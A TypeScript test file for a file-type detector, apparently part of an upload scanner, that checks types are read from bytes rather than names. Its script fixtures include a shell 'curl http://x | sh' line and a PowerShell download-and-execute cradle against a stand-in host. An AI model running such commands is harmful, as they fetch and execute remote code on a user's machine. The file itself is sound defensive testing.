/**
 * detectType on files made by real encoders (sharp, pdf-lib, yazl, cfb, zlib) and on hand-built headers: the
 * type comes from the bytes, a name or Content-Type only narrows text (csv, script, html) and never turns an
 * executable into anything else.
 */
import zlib from 'node:zlib';
import CFB from 'cfb';
import Encoding from 'encoding-japanese';
import iconv from 'iconv-lite';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { detectType, type TrueType } from '../../../src/scan/true-type.ts';
import { buildZip, deflateMember, storeMember, zipOf } from '../../helpers/zip-writer.ts';

async function typeOf(data: Buffer, hints?: { filename?: string; contentType?: string }): Promise<TrueType> {
  return (await detectType(data, hints)).type;
}

function yazlZip(entries: [string, string, { compress?: boolean }?][]): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, text, opts] of entries) zip.addBuffer(Buffer.from(text), name, { compress: opts?.compress ?? true });
  zip.end();
  const chunks: Buffer[] = [];
  return new Promise((resolve, reject) => {
    zip.outputStream.on('data', (c: Buffer) => chunks.push(c));
    zip.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    zip.outputStream.on('error', reject);
  });
}

const CONTENT_TYPES = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="${main}"/></Types>`;

function cfbOf(streams: Record<string, Buffer>, clsid?: string): Buffer {
  const c = CFB.utils.cfb_new();
  for (const [name, data] of Object.entries(streams)) CFB.utils.cfb_add(c, `/${name}`, data);
  if (clsid && c.FileIndex[0]) c.FileIndex[0].clsid = clsid;
  return Buffer.from(CFB.write(c, { type: 'buffer' }) as Uint8Array);
}

/** A minimal MZ/PE start as every Windows program has. */
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.from('This program cannot be run in DOS mode.\r\r\n$'), Buffer.alloc(100)]);

describe('detectType: images and PDF', () => {
  it.each(['jpeg', 'png', 'gif', 'webp', 'tiff'] as const)('%s made by sharp', async (format) => {
    const img = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#c00' } }).toFormat(format).toBuffer();
    expect(await detectType(img, { filename: 'x.bin' })).toMatchObject({ type: format, category: 'image' });
  });

  it('a hand-built BMP', async () => {
    const bmp = Buffer.alloc(70);
    bmp.write('BM', 0, 'latin1');
    bmp.writeUInt32LE(70, 2);
    bmp.writeUInt32LE(54, 10);
    bmp.writeUInt32LE(40, 14);
    bmp.writeInt32LE(2, 18);
    bmp.writeInt32LE(2, 22);
    bmp.writeUInt16LE(1, 26);
    bmp.writeUInt16LE(24, 28);
    expect(await typeOf(bmp)).toBe('bmp');
  });

  it('a PDF made by pdf-lib', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    expect(await detectType(Buffer.from(await doc.save()))).toEqual({ type: 'pdf', category: 'pdf', ext: 'pdf', mime: 'application/pdf' });
  });

  it('SVG (text with an <svg> root) is svg, not text', async () => {
    expect(await typeOf(Buffer.from('<?xml version="1.0"?>\n<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toBe('svg');
  });
});

describe('detectType: Office, ODF and zips', () => {
  it('OOXML made with yazl → docx / xlsx / pptx, even when [Content_Types].xml is not first', async () => {
    expect(await typeOf(await yazlZip([['[Content_Types].xml', CONTENT_TYPES('/word/document.xml')], ['word/document.xml', '<w:document/>']]))).toBe('docx');
    expect(await typeOf(await yazlZip([['[Content_Types].xml', CONTENT_TYPES('/xl/workbook.xml')], ['xl/workbook.xml', '<workbook/>']]))).toBe('xlsx');
    expect(await typeOf(await yazlZip([['ppt/presentation.xml', '<p/>'], ['[Content_Types].xml', CONTENT_TYPES('/ppt/presentation.xml')]]))).toBe('pptx');
  });

  it('ODF (stored "mimetype" first) → odt / ods / odp', async () => {
    for (const [mime, type] of [
      ['application/vnd.oasis.opendocument.text', 'odt'],
      ['application/vnd.oasis.opendocument.spreadsheet', 'ods'],
      ['application/vnd.oasis.opendocument.presentation', 'odp'],
    ] as const) {
      expect(await typeOf(await yazlZip([['mimetype', mime, { compress: false }], ['content.xml', '<office:document-content/>']]))).toBe(type);
    }
  });

  it('a zip of documents is zip; a Java archive is exe (it runs when opened)', async () => {
    expect(await detectType(zipOf('議事録.txt', Buffer.from('議事録')))).toMatchObject({ type: 'zip', category: 'archive', ext: 'zip' });
    const jar = buildZip([deflateMember('META-INF/MANIFEST.MF', Buffer.from('Manifest-Version: 1.0\r\nMain-Class: A\r\n')), storeMember('A.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]))]);
    expect(await detectType(jar)).toMatchObject({ type: 'exe', category: 'executable' });
  });

  it('OLE2 made with cfb: doc, xls, ppt, msi, 一太郎, encrypted OOXML', async () => {
    expect(await typeOf(cfbOf({ WordDocument: Buffer.alloc(600), '1Table': Buffer.alloc(600) }))).toBe('doc');
    expect(await typeOf(cfbOf({ Workbook: Buffer.alloc(600) }))).toBe('xls');
    expect(await typeOf(cfbOf({ 'PowerPoint Document': Buffer.alloc(600), 'Current User': Buffer.alloc(64) }))).toBe('ppt');
    expect(await typeOf(cfbOf({ '\u4840\u3f3f': Buffer.alloc(600) }, '84100c0000000000c000000000000046'))).toBe('msi');
    expect(await detectType(cfbOf({ '\u0004JSRV_SegmentInformation': Buffer.alloc(600), DocumentText: Buffer.alloc(600) }))).toMatchObject({ type: 'jtd', category: 'office' });
    expect(await detectType(cfbOf({ EncryptionInfo: Buffer.alloc(600), EncryptedPackage: Buffer.alloc(4096) }))).toMatchObject({ type: 'ooxml-encrypted', category: 'office' });
    expect(await typeOf(cfbOf({ Something: Buffer.alloc(600) }))).toBe('unknown');
  });

  it('RTF', async () => {
    expect(await typeOf(Buffer.from('{\\rtf1\\ansi\\ansicpg932 本文}'))).toBe('rtf');
  });
});

describe('detectType: archives', () => {
  it('gzip, tar, 7z, RAR, LZH, ISO 9660 by their headers', async () => {
    expect(await typeOf(zlib.gzipSync(Buffer.from('hello')))).toBe('gzip');
    const tar = Buffer.alloc(1024);
    tar.write('report.txt', 0, 'latin1');
    tar.write('0000644\0', 100, 'latin1');
    tar.write('0000000\0', 108, 'latin1');
    tar.write('0000000\0', 116, 'latin1');
    tar.write('00000000000\0', 124, 'latin1');
    tar.write('00000000000\0', 136, 'latin1');
    tar.write('        ', 148, 'latin1');
    tar.write('0', 156, 'latin1');
    tar.write('ustar\x0000', 257, 'latin1');
    let sum = 0;
    for (let i = 0; i < 512; i++) sum += tar[i] as number;
    tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    expect(await typeOf(tar)).toBe('tar');
    expect(await typeOf(Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(40)]))).toBe('7z');
    expect(await typeOf(Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(40)]))).toBe('rar');
    expect(await typeOf(Buffer.concat([Buffer.from([0x2a, 0x5c]), Buffer.from('-lh5-'), Buffer.alloc(60)]))).toBe('lzh');
    const iso = Buffer.alloc(0x8800);
    iso[0x8000] = 1;
    iso.write('CD001', 0x8001, 'latin1');
    expect(await detectType(iso)).toMatchObject({ type: 'iso', category: 'archive' });
  });
});

describe('detectType: executables, scripts and text', () => {
  it('MZ, ELF, Mach-O and a shell link by their headers', async () => {
    expect(await typeOf(EXE)).toBe('exe');
    expect(await typeOf(Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]))).toBe('elf');
    expect(await typeOf(Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(56)]))).toBe('macho');
    const lnk = Buffer.alloc(76);
    Buffer.from([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]).copy(lnk);
    expect(await detectType(lnk)).toMatchObject({ type: 'lnk', category: 'executable' });
  });

  it('a name or Content-Type never turns an exe into something else', async () => {
    for (const hints of [
      { filename: '請求書.pdf', contentType: 'application/pdf' },
      { filename: 'readme.txt', contentType: 'text/plain' },
      { filename: 'data.csv', contentType: 'text/csv' },
      { filename: 'photo.jpg', contentType: 'image/jpeg' },
    ]) {
      expect(await typeOf(EXE, hints)).toBe('exe');
    }
  });

  it('scripts by content: shebang, batch, VBScript, JScript, PowerShell, HTA, WSF', async () => {
    for (const text of [
      '#!/bin/sh\ncurl http://x | sh\n',
      '@echo off\r\nstart calc.exe\r\n',
      'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
      'var x = new ActiveXObject("MSXML2.XMLHTTP");\n',
      'IEX (New-Object Net.WebClient).DownloadString("http://x")\n',
      '<html><head><hta:application id="a"/></head></html>',
      '<job id="a"><script language="VBScript">MsgBox 1</script></job>',
    ]) {
      expect(await detectType(Buffer.from(text), { filename: 'notes.txt' }), text).toMatchObject({ type: 'script', category: 'executable' });
    }
  });

  it('a script extension makes plain text a script; it never makes binary data one', async () => {
    expect(await typeOf(Buffer.from('x = 1\r\n'), { filename: 'invoice.vbs' })).toBe('script');
    expect(await typeOf(Buffer.from('echo hello\r\n'), { filename: '実行.BAT' })).toBe('script');
    expect(await typeOf(Buffer.from([0x00, 0x01, 0x02, 0xff, 0xfe]), { filename: 'a.js' })).toBe('unknown');
  });

  it('Japanese text in Shift_JIS, EUC-JP, ISO-2022-JP and UTF-8 is text', async () => {
    const s = '令和8年度 予算書（案）について\r\nご確認ください。\r\n';
    const jis = Buffer.from(Encoding.convert(Encoding.stringToCode(s), { to: 'JIS', from: 'UNICODE' }));
    expect(jis.includes(0x1b)).toBe(true);
    for (const [enc, data] of [['Shift_JIS', iconv.encode(s, 'Shift_JIS')], ['EUC-JP', iconv.encode(s, 'EUC-JP')], ['ISO-2022-JP', jis], ['UTF-8', Buffer.from(s)]] as const) {
      expect(await detectType(data, { filename: 'memo.dat' }), enc).toMatchObject({ type: 'text', category: 'text' });
    }
  });

  it('CSV only when the name (or Content-Type) says so and the bytes are text', async () => {
    const csv = iconv.encode('氏名,金額\r\n山田,1000\r\n', 'Shift_JIS');
    expect(await typeOf(csv, { filename: '名簿.csv' })).toBe('csv');
    expect(await typeOf(csv, { contentType: 'text/csv' })).toBe('csv');
    expect(await typeOf(csv)).toBe('text');
    expect(await typeOf(Buffer.from([0x00, 0x41, 0x2c, 0x42]), { filename: 'a.csv' })).toBe('unknown');
  });

  it('HTML documents and mail messages', async () => {
    expect(await typeOf(Buffer.from('<!-- x --><!DOCTYPE html><html><body>hi</body></html>'))).toBe('html');
    expect(await typeOf(Buffer.from('hello <b>world</b>'), { filename: 'page.htm' })).toBe('html');
    const eml = 'Received: from a by b; Tue, 24 Nov 2026 09:15:00 +0900\r\nFrom: a@example.com\r\nSubject: test\r\n\r\nbody\r\n';
    expect(await detectType(Buffer.from(eml))).toMatchObject({ type: 'eml', mime: 'message/rfc822' });
  });

  it('binary noise and empty data are unknown', async () => {
    expect(await typeOf(Buffer.from([0x00, 0x9f, 0x13, 0x37, 0x00, 0x01]))).toBe('unknown');
    expect(await typeOf(Buffer.alloc(0))).toBe('unknown');
  });
});
